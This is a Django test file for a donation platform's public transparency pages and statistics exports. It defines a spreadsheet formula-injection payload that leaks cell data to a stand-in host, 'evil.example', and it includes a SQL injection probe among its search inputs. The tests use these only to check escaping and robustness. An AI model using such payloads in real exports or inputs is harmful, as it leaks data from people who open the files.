"""The public transparency pages of donation projects (no login) and the statistics of the
organizations and the approvers, with their exports."""

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from django.contrib.contenttypes.models import ContentType
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from audit.models import AuditEvent
from documents.models import Document
from tests.audit.helpers import denials
from tests.factories import UserFactory
from workflows.donations.models import (
    Channel,
    Donation,
    DonationProject,
    Expenditure,
    UsageReport,
)

from .helpers import member, org_with_people, project_in

pytestmark = pytest.mark.django_db

Status = DonationProject.Status
LIST = reverse("donations:public_list")
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
NOT_PUBLIC = (
    Status.DRAFT,
    Status.SUBMITTED,
    Status.CHANGES_REQUESTED,
    Status.REJECTED,
    Status.CANCELLED,
)


def give(project, amount, *, status=Donation.Status.CONFIRMED, **fields) -> Donation:
    fields.setdefault("donor_name", "张三")
    # Agreed to be named, unless a test says otherwise (the model's default is anonymous).
    fields.setdefault("anonymous", False)
    fields.setdefault("received_on", timezone.localdate())
    return Donation.objects.create(
        project=project,
        organization=project.organization,
        amount=Decimal(amount),
        channel=Channel.BANK_TRANSFER,
        status=status,
        **fields,
    )


def report(project, *lines, status=UsageReport.Status.PUBLISHED, version=1, title="第一期使用报告"):
    """A usage report of `project` with expenditure `lines` ((category, amount, spent_on)), and
    a signed document when it is public."""
    made = UsageReport.objects.create(
        project=project,
        created_by=project.created_by,
        title=title,
        narrative="购买了冬衣和文具。",
        status=status,
        version=version,
        published_at=timezone.now() if status in UsageReport.PUBLIC_STATES else None,
    )
    for position, (category, amount, spent_on) in enumerate(lines):
        Expenditure.objects.create(
            report=made,
            spent_on=spent_on,
            category=category,
            amount=Decimal(amount),
            payee="某某商店",
            description="采购",
            position=position,
        )
    if status in UsageReport.PUBLIC_STATES:
        made.document = Document.objects.create(
            kind="usage_report",
            title=title,
            owner_type=ContentType.objects.get_for_model(UsageReport),
            owner_id=str(made.pk),
            version=1,
            file=f"documents/usage_report/{made.pk}.pdf",
            sha256="0" * 64,
            size=1,
            page_count=1,
        )
        made.save(update_fields=["document"])
    return made


def page(client, url, **params) -> tuple[int, str]:
    response = client.get(url, params)
    return response.status_code, response.content.decode()


def text_of(html: str) -> str:
    """The page's words, tags and surplus spaces dropped."""
    return " ".join(re.sub(r"<[^>]+>", " ", html).split())


# --- the public list and pages ----------------------------------------------------------------


def test_anyone_reads_the_list_and_each_project_with_its_money(client):
    project = project_in(Status.OPEN, title="冬季助学")
    give(project, "1200.00")
    give(project, "300.50", donor_name="李四")
    report(project, ("冬衣", "800.00", timezone.localdate()))

    status, listing = page(client, LIST)

    assert status == 200
    assert project.organization.name in listing
    assert project.get_public_url() in listing
    assert "¥1,500.50" in listing  # raised
    assert "¥800.00" in listing  # spent
    status, detail = page(client, project.get_public_url())
    assert status == 200
    assert 'id="raised">¥1,500.50<' in detail
    assert 'id="spent">¥800.00<' in detail
    assert 'id="remaining">¥700.50<' in detail
    assert 'id="donors">2<' in detail
    assert "15% of the target raised." in detail  # 1,500.50 of 10,000
    assert 'value="15.0"' in detail  # the progress bar


def test_a_closed_project_is_public_but_takes_no_pledge(client):
    open_project = project_in(Status.OPEN)
    closed = project_in(Status.CLOSED)
    pledge = reverse("donations:pledge", args=[open_project.pk])

    assert pledge in page(client, open_project.get_public_url())[1]
    status, detail = page(client, closed.get_public_url())
    assert status == 200
    assert 'id="pledge"' not in detail
    assert closed.get_public_url() in page(client, LIST)[1]


@pytest.mark.parametrize("state", NOT_PUBLIC)
def test_a_project_never_opened_or_cancelled_is_hidden_from_the_public(client, state):
    hidden = project_in(state, title="尚未公开的项目")
    project_in(Status.OPEN)

    assert page(client, hidden.get_public_url())[0] == 404
    assert page(client, reverse("donations:cover", args=[hidden.pk]))[0] == 404
    status, listing = page(client, LIST)
    assert status == 200
    assert "尚未公开的项目" not in listing
    assert hidden.get_public_url() not in listing


def test_anonymous_donors_are_never_named_but_their_money_shows(client):
    project = project_in(Status.OPEN)
    give(project, "888.00", donor_name="王秘密", anonymous=True)
    give(project, "111.00", donor_name="赵公开")

    detail = page(client, project.get_public_url())[1]

    assert "王秘密" not in detail
    assert "赵公开" in detail
    assert "¥888.00" in detail
    assert 'id="raised">¥999.00<' in detail
    assert "Anonymous" in detail


def test_pledged_void_and_withdrawn_donations_are_not_counted(client):
    project = project_in(Status.OPEN)
    give(project, "100.00")
    give(project, "5000.00", status=Donation.Status.PLEDGED, donor_name="承诺者")
    give(project, "7000.00", status=Donation.Status.VOID, donor_name="作废者")
    give(project, "9000.00", status=Donation.Status.WITHDRAWN, donor_name="撤回者")

    detail = page(client, project.get_public_url())[1]

    assert 'id="raised">¥100.00<' in detail
    assert 'id="donors">1<' in detail
    assert 'id="donation-count">1<' in detail
    for name in ("承诺者", "作废者", "撤回者"):
        assert name not in detail
    assert "¥100.00" in page(client, LIST)[1]
    assert "¥5,100.00" not in page(client, LIST)[1]


def test_only_published_reports_count_as_spent_and_superseded_ones_are_marked(client):
    project = project_in(Status.OPEN)
    give(project, "9000.00")
    today = timezone.localdate()
    old = report(project, ("冬衣", "1000.00", today), status=UsageReport.Status.SUPERSEDED)
    current = report(project, ("冬衣", "2500.00", today), version=2, title="第一期使用报告（修订）")
    report(project, ("冬衣", "4000.00", today), status=UsageReport.Status.DRAFT, title="草稿")
    report(project, ("冬衣", "3000.00", today), status=UsageReport.Status.SUBMITTED, title="待审")

    detail = page(client, project.get_public_url())[1]

    assert 'id="spent">¥2,500.00<' in detail
    assert 'id="remaining">¥6,500.00<' in detail
    for public in (old, current):
        assert reverse("donations:report_detail", args=[public.pk]) in detail
        assert reverse("donations:report_pdf", args=[public.pk]) in detail
        code = public.document.verification_code
        assert f'href="/verify/{code}/"' in detail
    assert detail.count("Superseded by a new version") == 1
    assert 'class="superseded"' in detail
    assert "草稿" not in detail
    assert "待审" not in detail


def test_spending_is_drawn_as_an_svg_chart_with_a_table_and_set_against_the_budget(client):
    project = project_in(Status.OPEN)
    give(project, "10000.00")
    today = timezone.localdate()
    report(
        project,
        ("冬衣", "3000.00", today),
        ("冬衣", "3600.00", today),
        ("学习用品", "1650.00", today),
        ("交通", "200.00", today),
    )

    detail = page(client, project.get_public_url())[1]

    chart = detail[detail.index("<svg") : detail.index("</svg>")]
    assert 'role="img"' in chart
    assert "<title" in chart
    assert "Spending by category" in chart
    assert "http" not in chart.replace('xmlns="http://www.w3.org/2000/svg"', "")
    assert "style=" not in chart  # the Content-Security-Policy allows no inline style
    # The largest category's bar is full; the others in proportion, labelled with amounts.
    assert 'width="100.0%"' in chart
    assert 'width="25.0%"' in chart  # 1,650 of 6,600
    assert "¥6,600.00" in chart
    assert "学习用品" in chart
    # The same figures in a table, readable without the picture.
    table = detail[detail.index('id="spending-table"') :]
    assert "<td>学习用品</td><td>¥1,650.00</td>" in table
    # Budget against actual: planned 6,000 for winter clothes, 600 over it; transport unplanned.
    budget = text_of(detail[detail.index('id="budget"') : detail.index('id="reports-heading"')])
    assert "冬衣 ¥6,000.00 ¥6,600.00 (110%) ¥600.00 over the plan" in budget
    assert "学习用品 ¥4,000.00 ¥1,650.00 (41.3%) ¥2,350.00" in budget
    assert "交通 not in the budget ¥200.00 –" in budget


def test_the_page_shows_the_latest_twenty_donations_and_how_many_in_all(client):
    project = project_in(Status.OPEN)
    start = timezone.localdate() - datetime.timedelta(days=30)
    for n in range(25):
        give(
            project, "10.00", donor_name=f"捐赠人{n:02d}", received_on=start + datetime.timedelta(n)
        )

    detail = page(client, project.get_public_url())[1]

    rows = detail[detail.index('id="donations"') : detail.index('id="spending-heading"')]
    assert rows.count("<tr>") == 21  # the heading and twenty
    assert "捐赠人24" in rows  # the newest first
    assert "捐赠人04" not in rows
    assert "The latest 20 of 25 donations." in detail


def _queries(client, url) -> tuple[int, str]:
    with CaptureQueriesContext(connection) as context:
        response = client.get(url)
    assert response.status_code == 200
    return len(context.captured_queries), response.content.decode()


def test_the_project_page_costs_the_same_queries_with_1_and_1000_donations(client):
    project = project_in(Status.OPEN)
    give(project, "1.00")
    report(project, ("冬衣", "1.00", timezone.localdate()))
    one, detail = _queries(client, project.get_public_url())
    assert 'id="raised">¥1.00<' in detail
    Donation.objects.bulk_create(
        Donation(
            project=project,
            organization=project.organization,
            donor_name=f"捐赠人{n}",
            anonymous=n % 3 == 0,
            amount=Decimal("2.00"),
            channel=Channel.CASH,
            status=Donation.Status.CONFIRMED,
            received_on=timezone.localdate(),
        )
        for n in range(999)
    )
    report(project, ("学习用品", "5.00", timezone.localdate()), title="第二期")

    thousand, detail = _queries(client, project.get_public_url())

    assert 'id="raised">¥1,999.00<' in detail
    assert 'id="donation-count">1000<' in detail
    assert thousand == one


def test_the_list_costs_the_same_queries_with_1_and_50_projects(client):
    first = project_in(Status.OPEN)
    give(first, "10.00")
    one, listing = _queries(client, LIST)
    assert listing.count("<tr>") == 2
    for n in range(49):
        # Each with its own organization: a per-row lookup would show.
        project = project_in(Status.OPEN if n % 2 else Status.CLOSED)
        give(project, f"{n + 1}.00")

    fifty, listing = _queries(client, LIST)

    assert listing.count("<tr>") == 21  # the heading and a page of 20
    assert fifty == one


def test_the_search_finds_titles_purposes_and_organizations(client):
    organization, _staff, _admin = org_with_people()
    by_title = project_in(Status.OPEN, title="助学行动", organization=organization)
    by_purpose = project_in(Status.OPEN, purpose="为山区学校修缮操场。")
    other = project_in(Status.OPEN, title="敬老送暖")

    assert by_title.get_public_url() in page(client, LIST, q="助学")[1]
    listing = page(client, LIST, q="操场")[1]
    assert by_purpose.get_public_url() in listing
    assert other.get_public_url() not in listing
    listing = page(client, LIST, q=organization.name)[1]
    assert by_title.get_public_url() in listing
    assert other.get_public_url() not in listing
    assert "No donation project matches this search." in page(client, LIST, q="不存在的词")[1]


@pytest.mark.parametrize("query", ["助学\x00", "\x00", "a" * 100_000])
def test_a_search_that_cannot_be_used_is_refused_and_the_list_still_shows(client, query):
    project = project_in(Status.OPEN)

    status, listing = page(client, LIST, q=query)

    assert status == 200
    assert "The search could not be used" in listing
    assert project.get_public_url() in listing


@pytest.mark.parametrize(
    "query",
    [
        "\u202e\u200b👩‍👩‍👧‍👦 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ﷽",
        "%_\\'\"",
        "' OR 1=1 --",
        "ＦＵＬＬＷＩＤＴＨ İı ß",
    ],
)
def test_an_odd_search_answers_with_the_list(client, query):
    project_in(Status.OPEN)

    status, listing = page(client, LIST, q=query, page="x")

    assert status == 200
    assert "No donation project matches this search." in listing


@pytest.mark.parametrize("raw", ["q=%ED%A0%80", "q=%FF%FE%00", "q=%00&page=-1", "q=a&q=b"])
def test_a_search_of_broken_bytes_never_breaks_the_list(client, raw):
    project_in(Status.OPEN)

    response = client.get(f"{LIST}?{raw}")

    assert response.status_code == 200


def test_the_cover_is_served_to_everyone_for_a_public_project_only(client):
    project = project_in(Status.OPEN)
    assert page(client, reverse("donations:cover", args=[project.pk]))[0] == 404
    project.cover = SimpleUploadedFile("cover.jpg", b"\xff\xd8\xff\xe0 a jpeg", "image/jpeg")
    project.save(update_fields=["cover"])

    response = client.get(reverse("donations:cover", args=[project.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "image/jpeg"
    assert b"".join(response.streaming_content) == b"\xff\xd8\xff\xe0 a jpeg"
    assert (
        reverse("donations:cover", args=[project.pk]) in page(client, project.get_public_url())[1]
    )


def test_a_draft_projects_cover_is_for_its_organization_only(client):
    project = project_in(Status.SUBMITTED)
    project.cover = SimpleUploadedFile("cover.jpg", b"\xff\xd8\xff\xe0 a jpeg", "image/jpeg")
    project.save(update_fields=["cover"])
    url = reverse("donations:cover", args=[project.pk])
    assert client.get(url).status_code == 404

    client.force_login(project.created_by)
    response = client.get(url)

    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"


# --- statistics --------------------------------------------------------------------------------

STATS = reverse("donations:statistics")


def _stats_fixture():
    """Two projects of one organization and one of another, with donations over two months."""
    organization, staff, _admin = org_with_people()
    first = project_in(Status.OPEN, organization=organization, title="项目甲")
    second = project_in(Status.CLOSED, organization=organization, title="项目乙")
    foreign = project_in(Status.OPEN, title="别家项目")
    person = UserFactory()
    march, april = datetime.date(2025, 3, 10), datetime.date(2025, 4, 2)
    # Donors: 张三 (twice, on two projects: one donor), the pledger (under two names: one
    # donor), two anonymous donations (two donors): four in all.
    give(first, "100.00", donor_name="张三", received_on=march)
    give(second, "300.00", donor_name="张三", received_on=april)
    give(first, "50.00", donor_name="小李", pledged_by=person, received_on=march)
    give(first, "70.00", donor_name="李先生", pledged_by=person, received_on=april)
    give(first, "20.00", donor_name="匿名甲", anonymous=True, received_on=april)
    give(second, "60.00", donor_name="匿名乙", anonymous=True, received_on=april)
    give(first, "999.00", status=Donation.Status.VOID, received_on=march)
    give(first, "999.00", status=Donation.Status.PLEDGED, received_on=march)
    give(foreign, "5000.00", donor_name="外人", received_on=march)
    report(first, ("冬衣", "80.00", datetime.date(2025, 3, 20)), ("冬衣", "40.00", april))
    report(second, ("文具", "999.00", april), status=UsageReport.Status.DRAFT, title="草稿")
    return organization, staff, first, second, foreign


def test_someone_outside_every_organization_finds_no_statistics_and_is_audited(client, outsider):
    client.force_login(outsider)

    for url in (STATS, reverse("donations:statistics_export", args=["csv"])):
        assert client.get(url).status_code == 404

    assert denials().filter(actor=outsider).count() == 2
    assert not AuditEvent.objects.filter(action="donations.exported").exists()


def test_an_anonymous_visitor_is_sent_to_log_in(client):
    response = client.get(STATS)

    assert response.status_code == 302
    assert reverse("accounts:login") in response["Location"]


def test_a_member_reads_the_figures_of_their_organizations_projects(client):
    _organization, staff, *_projects = _stats_fixture()
    client.force_login(staff)

    status, html = page(client, STATS)

    assert status == 200
    assert "项目甲" in html
    assert "项目乙" in html
    assert "别家项目" not in html
    assert 'id="total-raised">¥600.00<' in html
    assert 'id="total-spent">¥120.00<' in html
    assert 'id="total-remaining">¥480.00<' in html
    assert 'id="total-donations">6<' in html
    assert 'id="total-donors">4<' in html
    assert 'id="total-average">¥100.00<' in html
    months = text_of(html[html.index('id="months"') : html.index('id="projects-heading"')])
    assert "2025-03 ¥150.00 ¥80.00 2" in months
    assert "2025-04 ¥450.00 ¥40.00 4" in months
    projects = text_of(html[html.index('id="per-project"') :])
    # 项目甲: 240 raised from 4 donations by 3 donors (张三, the pledger, one anonymous).
    assert "¥240.00 ¥120.00 ¥120.00 3 ¥60.00" in projects
    # 项目乙: 360 from 2 donors.
    assert "¥360.00 ¥0.00 ¥360.00 2 ¥180.00" in projects
    assert html.count("<svg") == 3  # raised and spent per month, raised per project


def test_an_approver_reads_every_projects_figures_and_may_narrow_them(client, approver):
    organization, _staff, _first, _second, foreign = _stats_fixture()
    client.force_login(approver)

    html = page(client, STATS)[1]
    assert "别家项目" in html
    assert 'id="total-raised">¥5,600.00<' in html

    html = page(client, STATS, organization=organization.pk)[1]
    assert "别家项目" not in html
    assert 'id="total-raised">¥600.00<' in html
    html = page(client, STATS, organization=foreign.organization.pk)[1]
    assert 'id="total-raised">¥5,000.00<' in html


def test_a_member_cannot_narrow_to_another_organization(client):
    _organization, staff, _first, _second, foreign = _stats_fixture()
    client.force_login(staff)

    html = page(client, STATS, organization=foreign.organization.pk)[1]

    assert "The filter could not be used" in html
    assert "别家项目" not in html
    export = reverse("donations:statistics_export", args=["csv"])
    assert page(client, export, organization=foreign.organization.pk)[0] == 404


def test_the_csv_export_escapes_a_formula_and_is_audited(client):
    organization, staff, first, _second, _foreign = _stats_fixture()
    give(first, "12.34", donor_name=INJECTION, received_on=datetime.date(2025, 5, 1))
    client.force_login(staff)

    response = client.get(
        reverse("donations:statistics_export", args=["csv"]), {"table": "donations"}
    )

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:4] == ["Received on", "Donation project", "Organization", "Donor"]
    assert len(rows) == 1 + 7  # the six of the fixture and this one; none of another organization
    last = rows[-1]
    assert last[:6] == ["2025-05-01", "项目甲", organization.name, "'" + INJECTION, "no", "12.34"]
    event = AuditEvent.objects.get(action="donations.exported")
    assert event.actor == staff
    assert event.payload == {"format": "csv", "table": "donations", "rows": 7}


def test_the_xlsx_export_stores_a_formula_as_text_and_amounts_as_numbers(client, approver):
    _organization, _staff, first, _second, _foreign = _stats_fixture()
    give(first, "12.34", donor_name=INJECTION, received_on=datetime.date(2025, 5, 1))
    client.force_login(approver)

    response = client.get(
        reverse("donations:statistics_export", args=["xlsx"]), {"table": "donations"}
    )

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    row = next(r for r in values if r[3] == "'" + INJECTION)
    donor = sheet.cell(row=values.index(row) + 1, column=4)
    assert (donor.value, donor.data_type) == ("'" + INJECTION, "s")
    assert row[5] == pytest.approx(12.34)
    assert row[0].date() == datetime.date(2025, 5, 1)
    assert AuditEvent.objects.get(action="donations.exported").payload["format"] == "xlsx"


def test_the_per_project_and_per_month_exports_hold_the_page_figures(client):
    _organization, staff, *_projects = _stats_fixture()
    client.force_login(staff)
    export = reverse("donations:statistics_export", args=["csv"])

    projects = list(csv.reader(io.StringIO(page(client, export, table="projects")[1][1:])))
    months = list(csv.reader(io.StringIO(page(client, export, table="months")[1][1:])))

    assert projects[0][4:] == [
        "Raised (CNY)",
        "Spent (CNY)",
        "Remaining (CNY)",
        "Donations",
        "Donors",
        "Average donation (CNY)",
    ]
    by_title = {row[0]: row for row in projects[1:]}
    assert by_title["项目甲"][3:] == ["10000.00", "240.00", "120.00", "120.00", "4", "3", "60.00"]
    assert months[1:] == [["2025-03", "150.00", "80.00", "2"], ["2025-04", "450.00", "40.00", "4"]]


@pytest.mark.parametrize(("fmt", "table"), [("html", "projects"), ("csv", "everything")])
def test_an_unknown_export_is_not_found(client, fmt, table):
    _organization, staff, *_projects = _stats_fixture()
    client.force_login(staff)

    response = client.get(reverse("donations:statistics_export", args=[fmt]), {"table": table})

    assert response.status_code == 404
    assert not AuditEvent.objects.filter(action="donations.exported").exists()


def test_a_new_member_of_an_organization_sees_its_statistics(client):
    organization, _staff, _admin = org_with_people()
    newcomer = member(organization)
    project_in(Status.OPEN, organization=organization, title="新成员的项目")
    client.force_login(newcomer)

    assert "新成员的项目" in page(client, STATS)[1]
